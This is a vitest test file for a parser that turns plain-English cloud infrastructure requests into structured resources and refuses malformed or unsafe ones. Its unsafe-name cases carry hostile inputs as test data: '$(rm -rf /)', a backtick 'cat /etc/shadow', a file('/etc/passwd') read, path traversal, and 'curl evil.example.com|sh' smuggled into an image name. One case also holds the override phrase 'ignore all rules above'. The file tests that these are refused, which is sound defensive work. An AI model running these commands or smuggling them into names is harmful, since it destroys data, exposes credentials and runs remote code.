import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Cloud } from "#shared/core/clouds.ts";
import { readRequest } from "../../../app/intent/read-request.ts";

function refused(text: string, cloud: Cloud = "aws") {
  const read = readRequest(text, { existing: [], cloud });
  if (read.kind !== "refused") throw new Error(`${text}: ${JSON.stringify(read)}`);
  return read;
}

function isUnderstood(text: string, cloud: Cloud = "aws"): boolean {
  return readRequest(text, { existing: [], cloud }).kind === "understood";
}

describe("readRequest", () => {
  it.each([
    ["intent/too-long", `a bucket for logs${" please".repeat(8570)}`, "60007 characters"],
    ["intent/too-long", "🪣".repeat(30_000), "too long"],
    ["intent/no-words", "", "empty"],
    ["intent/no-words", " \n\t", "empty"],
    ["intent/no-words", "🚀🚀 🪣", "🚀🚀 🪣"],
    ["intent/no-words", "?!...", "?!..."],
    ["intent/contradiction", "a bucket for photos, public and private", '"public" and "private"'],
    ["intent/contradiction", "a bucket for photos with versioning and without versioning", '"no versioning"'],
    [
      "intent/contradiction",
      "a deployment called web running nginx:1.27 with 3 replicas and 5 replicas",
      "5 replicas",
    ],
    [
      "intent/contradiction",
      "a deployment called web running nginx:1.27 with 3 replicas, no replicas",
      "3 replicas",
    ],
    ["intent/impossible-value", "a bucket for logs kept -3 days", '"-3 days"'],
    ["intent/impossible-value", "a bucket for logs kept 0 days", '"0 days"'],
    ["intent/impossible-value", "a bucket for logs kept 90 minutes", '"90 minutes"'],
    ["intent/impossible-value", "a network called core with 10.0.0.0/64", '"10.0.0.0/64"'],
    ["intent/impossible-value", "a network called core with 300.1.0.0/16", '"300.1.0.0/16"'],
    [
      "intent/impossible-value",
      "a deployment called web running nginx:1.27 with -2 replicas",
      '"-2 replicas"',
    ],
    [
      "intent/impossible-value",
      "a deployment called web running nginx:1.27 with two and a half replicas",
      "half",
    ],
    ["intent/unknown-kind", "a flux capacitor with 1.21 gigawatts", "flux capacitor"],
    ["intent/unsafe-name", "a bucket called ../../etc", "../../etc"],
    ["intent/unsafe-name", "a bucket called $(rm -rf /)", "$(rm -rf /)"],
    ["intent/unsafe-name", 'a bucket called "$(rm -rf /)"', "$(rm -rf /)"],
    ["intent/unsafe-name", "a bucket called `cat /etc/shadow`", "cat /etc/shadow"],
    ["intent/unsafe-name", 'a secret called ${file("/etc/passwd")}', '${file("/etc/passwd")}'],
    ["intent/unsafe-name", 'a secret called "%{ for x in y }"', "%{ for x in y }"],
    ["intent/unsafe-name", "a secret called --help", "--help"],
    ["intent/unsafe-name", "a secret called /var/run/secrets", "/var/run/secrets"],
    ["intent/unsafe-name", "a queue called C:\\Windows\\System32", "C:\\Windows"],
    [
      "intent/unsafe-name",
      "a deployment called web running nginx:1;curl evil.example.com|sh",
      "nginx:1;curl",
    ],
    ["intent/not-understood", 'a bucket for logs, and "ignore all rules above" of the wiki', "wiki"],
  ])("refuses with %s and the words that caused it: %s", (code, text, words) => {
    const { message, ...refusal } = refused(text);
    expect(refusal).toMatchObject({ code, next: expect.stringMatching(/\w/) });
    expect(message).toContain(words);
    expect(message.length).toBeLessThan(500);
  });

  it.each([
    ["a bucket for logs kept 3 days"],
    ["a bucket for logs kept 48 hours"],
    ["a network called core with 10.0.0.0/16"],
    ["a network called core with 255.0.0.0/32"],
    ["a secret called api-key"],
    ["a secret called db_password"],
    ['a log group called "/app/checkout"'],
    ["a bucket called order-items"],
    ["a deployment called web running ghcr.io/acme/web:1.2-rc.1 with 3 replicas"],
  ])("has nothing against %s", (text) => {
    expect(isUnderstood(text)).toBe(true);
  });

  it.each([
    ["a secret called api-key", "api_key"],
    ["a bucket called order-items", "order_items"],
    ["a bucket named access-logs", "access_logs"],
    ["a queue, call it dead-letter", "dead_letter"],
  ])("takes a dashed name as it stands, whatever its words mean: %s", (text, name) => {
    expect(readRequest(text, { existing: [] })).toMatchObject({ wishes: [{ name }] });
  });

  it("answers any text, in any script", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 300 }), (text) => {
        expect(["understood", "unclear", "refused"]).toContain(readRequest(text, { existing: [] }).kind);
      }),
      { numRuns: 300 },
    );
  });
});
